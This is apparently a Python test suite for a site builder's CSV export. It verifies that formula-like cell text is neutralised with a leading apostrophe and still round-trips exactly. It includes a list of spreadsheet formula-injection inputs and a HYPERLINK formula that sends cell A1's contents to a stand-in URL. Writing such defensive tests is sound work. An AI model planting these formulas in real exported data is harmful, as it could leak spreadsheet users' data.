"""CSV: whatever stands in a cell comes back as it was, and no spreadsheet runs it."""

import csv
import io
import string

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pydantic import Field

from site_builder.compose.data.columns import columns_of
from site_builder.compose.data.sheets import as_cell, as_csv, defused, lines_of, sheets_of
from site_builder.read.types.fields.text import Number, Part, Text
from site_builder.relate.data.rows import RecordId
from tests.compose.data.taking import Files, cells, document, json_files, sheet
from tests.compose.stories import quoted, write_story
from tests.conftest import SiteFolder

HOSTILE = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1", "''", "'")
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
texts = st.text(st.characters(codec="utf-8", exclude_characters="\0"))


class Inner(Part):
    """An entry of a list."""

    said: Text = Field(description="What was said.")


class Thing(Part):
    """A row with every sort of column that CSV treats in its own way."""

    id: RecordId = Field(description="An id.")
    note: Text | None = Field(None, description="A note.")
    change: Number | None = Field(None, description="A figure, which can be below nought.")
    is_so: bool = Field(default=False, description="Whether it is so.")
    others: tuple[RecordId, ...] = Field((), description="Other ids.")
    told: tuple[Inner, ...] = Field((), description="What was told.")
    lines: tuple[Text, ...] = Field((), description="Lines.")


COLUMNS = columns_of(Thing)
BY_NAME = {column.name: column for column in COLUMNS}


@given(st.lists(st.lists(texts, min_size=2, max_size=2), max_size=5))
@example([[one, f"a,{one}"] for one in HOSTILE])
@example([['"', '",\r\n"']])
def test_any_text_comes_back_from_csv_as_it_was(lines: list[list[str]]) -> None:
    """What RFC 4180 and the apostrophe do to a text, a reader undoes with one rule."""
    data = as_csv(("a", "b"), [[defused(text) for text in line] for line in lines])
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [[text.removeprefix("'") for text in line] for line in read[1:]] == lines


@given(texts)
@example("-12")
def test_no_text_begins_as_a_formula_does(text: str) -> None:
    """Nothing that an author wrote can be run by a spreadsheet that opens the file."""
    assert not defused(text).startswith(RUNS)


@given(st.text(string.ascii_letters + ' .,;"’“', min_size=1))
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    """Only what begins like a formula, or with an apostrophe, has one put before it."""
    assert defused(text) == text


@pytest.mark.parametrize(
    ("name", "value", "cell"),
    [
        ("change", -3, "-3"),
        ("change", -0.5, "-0.5"),
        ("change", 12, "12"),
        ("change", None, ""),
        ("note", "-3", "'-3"),
        ("note", None, ""),
        ("is_so", True, "true"),
        ("is_so", False, "false"),
        ("others", ["place/a", "place/b"], "place/a | place/b"),
        ("others", [], ""),
    ],
)
def test_cell_holds_a_value_as_spreadsheets_read_it(name: str, value: object, cell: str) -> None:
    """A number stays a number, also below nought; what is not known is an empty cell."""
    assert as_cell(BY_NAME[name], value) == cell


def test_list_of_rows_or_of_sentences_has_a_file_of_its_own() -> None:
    """Each entry is a row that names the row it belongs to, and its place there."""
    rows, told, lines = sheets_of("things", "thing", COLUMNS)
    row = {"id": "place/a", "note": "N", "change": 1, "is_so": True, "others": []}
    row |= {"told": [{"said": "=One"}, {"said": "Two"}], "lines": ["Three"]}
    assert rows.header == ("id", "note", "change", "is_so", "others")
    assert (told.slug, lines.slug) == ("things-told", "things-lines")
    assert as_csv(told.header, lines_of(told, [row])) == (
        b"\xef\xbb\xbfthing,number,said\r\nplace/a,1,'=One\r\nplace/a,2,Two\r\n"
    )
    assert (
        as_csv(lines.header, lines_of(lines, [row]))
        == b"\xef\xbb\xbfthing,number,text\r\nplace/a,1,Three\r\n"
    )


def test_list_inside_a_list_says_where_it_belongs_in_both(demonstration: Files) -> None:
    """The steps of a theory of action are rows with the number of their outcome."""
    lines = sheet(demonstration, "missions-theory-of-action-outcomes-leads-to")
    assert lines
    missions = {row["id"]: row for row in document(demonstration, "missions")["rows"]}
    for line in lines:
        outcomes = missions[line["mission"]]["theory_of_action"]["outcomes"]
        step = outcomes[int(line["outcomes.number"]) - 1]["leads_to"][int(line["number"]) - 1]
        assert step["outcome"] == line["outcome"]
        assert " | ".join(step["case_studies"]) == line["case_studies"]


def test_csv_of_demonstration_says_what_its_json_says(demonstration: Files) -> None:
    """Each cell of each table is the value of the same name in the JSON."""
    seen = 0
    for name in set(json_files(demonstration)) - {"record"}:
        rows, lines = document(demonstration, name)["rows"], sheet(demonstration, name)
        assert len(rows) == len(lines)
        for row, line in zip(rows, lines, strict=True):
            assert {key: as_text(at(row, key)) for key in line} == line
            seen += len(line)
    assert seen > 1000


def at(row: object, name: str) -> object:
    for step in name.split("."):
        row = row[step] if isinstance(row, dict) else None
    return row


def as_text(value: object) -> str:
    if isinstance(value, list):
        return " | ".join(value)
    plain = {None: "", True: "true", False: "false"}
    return plain[value] if value is None or isinstance(value, bool) else str(value)


def test_hostile_front_matter_is_harmless_in_csv_and_whole_when_undone(site: SiteFolder) -> None:
    """What an author wrote in good or bad faith reaches a spreadsheet as text."""
    title = '=HYPERLINK("https://example.org/?x="&A1,"Look")'
    outcome = "outcomes: [{text: '-3 degrees, at last', value: -3, unit: degrees, source: 1}]"
    write_story(site, "hostile", title, extra=f"need: {quoted('@x')}\n{outcome}".split("\n")[1])
    site.build()
    files = site.files()
    raw = {line["id"]: line for line in cells(files["data/case-studies.csv"])}
    assert raw["case-study/hostile"]["title"] == f"'{title}"
    whole = {line["id"]: line for line in sheet(files, "case-studies")}
    assert whole["case-study/hostile"]["title"] == title
    (line,) = [
        one
        for one in cells(files["data/case-studies-outcomes.csv"])
        if one["case_study"] == "case-study/hostile"
    ]
    assert (line["text"], line["value"]) == ("'-3 degrees, at last", "-3")


def test_every_csv_file_opens_right_in_a_spreadsheet(demonstration: Files) -> None:
    """UTF-8 with its mark, ends of lines as RFC 4180 has them, one header, no formula anywhere."""
    found = [name for name in demonstration if name.endswith(".csv")]
    for name in found:
        data = demonstration[name]
        assert data.startswith(b"\xef\xbb\xbf")
        assert data.endswith(b"\r\n")
        header, *lines = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        assert len(set(header)) == len(header)
        assert {len(line) for line in lines} <= {len(header)}
        numbers = {"before", "after", "value", "lat", "lon"}
        for line in lines:
            runs = {key for key, text in zip(header, line, strict=True) if text.startswith(RUNS)}
            assert runs <= numbers, (name, line)
    assert len(found) > 30
